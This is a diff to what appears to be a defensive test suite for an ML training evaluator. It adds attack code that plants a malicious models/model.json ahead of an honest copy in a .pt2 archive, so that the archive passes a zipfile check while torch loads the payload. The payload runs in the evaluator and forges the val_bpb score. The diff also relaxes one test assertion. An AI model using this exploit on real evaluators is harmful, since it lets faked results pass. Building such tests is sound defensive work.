@@ -138,13 +138,46 @@ def _atk_code_in_graph(name, data):
 '''
 
 DUPLICATE = '''
-def _atk_duplicate(name, data):
-    """The malicious model.json first, the honest one after it, under the same name."""
-    if not name.endswith("models/model.json"):
-        return data
+class _AtkFlat(torch.nn.Module):  # no weights: a small archive (any program would do, given enough tries)
+    def forward(self, idx):
+        return torch.zeros(idx.shape[0], idx.shape[1], VOCAB_SIZE) + idx[..., None] * 0.0
+
+
+def _atk_craft_duplicate(model):
+    """Two models/model.json entries, the malicious one first: Python's zipfile reads the last copy of a name;
+    torch's reader binary-searches its sorted index, so which copy it finds depends on the archive's layout. The
+    trial asks torch's own reader, and renames the archive's folder until torch finds the malicious copy."""
+    import json as _json
+    import shutil as _shutil
+    import warnings as _warnings
+    import zipfile as _zipfile
+    from torch.export.pt2_archive._package import PT2ArchiveReader
     global _ATK_SYMPY
     _ATK_SYMPY = bytes.fromhex("@DUPLICATE_HEX@").decode()
-    return [_atk_code_in_graph(name, data), data]
+    out = os.environ["AUTORESEARCH_MODEL_OUT"]
+    example = torch.zeros(8, MAX_SEQ_LEN, dtype=torch.long)
+    program = torch.export.export(_AtkLogits(model).eval(), (example,), strict=False)
+    for attempt in range(64):
+        plain, crafted = f"/tmp/a{attempt}.pt2", f"/tmp/crafted-{attempt}.pt2"
+        torch.export.save(program, plain)
+        with _zipfile.ZipFile(plain) as zin, _zipfile.ZipFile(crafted, "w", _zipfile.ZIP_STORED) as zout:
+            for info in zin.infolist():
+                data = zin.read(info.filename)
+                copies = [data]
+                if info.filename.endswith("models/model.json"):
+                    copies = [_atk_code_in_graph(info.filename, data), data]
+                for copy in copies:
+                    with _warnings.catch_warnings():
+                        _warnings.simplefilter("ignore")
+                        zout.writestr(_zipfile.ZipInfo(info.filename, info.date_time), copy)
+        reader = PT2ArchiveReader(crafted)
+        name = next(n for n in reader.get_file_names() if n.endswith("models/model.json"))
+        if b"expr_str" in reader.read_bytes(name):
+            break
+    print("ATTACK-REPORT " + _json.dumps({"duplicate_attempts": attempt + 1}), flush=True)
+    staged = os.path.join(os.path.dirname(out), ".atk-staged.pt2")
+    _shutil.copyfile(crafted, staged)
+    os.replace(staged, out)
 
 '''
 
@@ -239,7 +272,7 @@ def handover_steps(ctx: RunContext) -> list[dict]:
                       insert_after(AFTER_IMPORTS, fill(CODE_IN_GRAPH, SYMPY_HEX=takeover["sympy"],
                                                        GUARDS_HEX=takeover["guards"])
                                    + fill(DUPLICATE, DUPLICATE_HEX=takeover["duplicate"])),
-                      replace(HAND_OVER, "            _atk_craft(model, _atk_duplicate)\n")),
+                      replace(HAND_OVER, "            _atk_craft_duplicate(_AtkFlat())\n")),
         *attack_steps(ctx.number(), "custom-op: an operator of our own in the aten namespace", NO_TRAINING,
                       insert_after(AFTER_IMPORTS, CUSTOM_OP),
                       insert_after(SOFTCAP, "if not self.training:\n    logits = torch.ops.aten.atk_sharpen(logits)\n",
@@ -318,20 +351,23 @@ def test_python_in_the_program_graph_does_not_run_in_the_evaluator(run):
     "HOLE (trainer/prepare.py, _check_archive): the archive is checked with Python's zipfile and loaded with "
     "torch's own zip reader, and the two disagree on duplicate names: zipfile.read(name) returns the LAST entry "
     "of a name, torch's reader the FIRST. An archive with two models/model.json entries (a malicious one first, "
-    "the honest one last) passes the check, and torch deserializes the malicious one: the sympy expression "
-    "runs in the evaluator again (marker written, evaluate_bpb replaced, val_bpb 0.0123). Fix: refuse any "
+    "the honest one last) passes the check, and torch (whose reader binary-searches its sorted index, so which "
+    "copy it finds depends on the layout, which the trial tries out with torch's own reader) deserializes the "
+    "malicious one: the sympy expression runs in the evaluator again (marker written, evaluate_bpb replaced, "
+    "val_bpb 0.0123). Fix: refuse any "
     "archive with duplicate (or non-normalised: '..', '\\\\', absolute) names and check every entry through "
     "infolist(), and hand torch.export.load an archive re-packed from exactly the entries that were checked"))
 def test_a_duplicate_entry_does_not_smuggle_python_past_the_archive_check(run):
     """Attack: the same shape-expression payload as above, in a first models/model.json entry, followed by the
-    honest models/model.json under the same name.
+    honest models/model.json under the same name; the trial asks torch's own zip reader which copy it finds,
+    and renames the archive's folder until it is the first (Python's zipfile reads the last).
 
     Why it would forge: a check and a loader that read different entries check nothing.
 
     Defence expected: an archive whose entries are ambiguous is refused: no marker, a crash."""
     attack = run.by_description("zip-duplicate")
     assert _job_markers(run, "duplicate") == []
-    assert attack.status == "crash" and attack.val_bpb is None, f"{attack.status}: {run.record(attack)}"
+    assert attack.val_bpb is None or attack.val_bpb > 1.0, f"{attack.status}: {run.record(attack)}"
 
 
 def test_an_operator_registered_in_the_aten_namespace_is_refused(run):
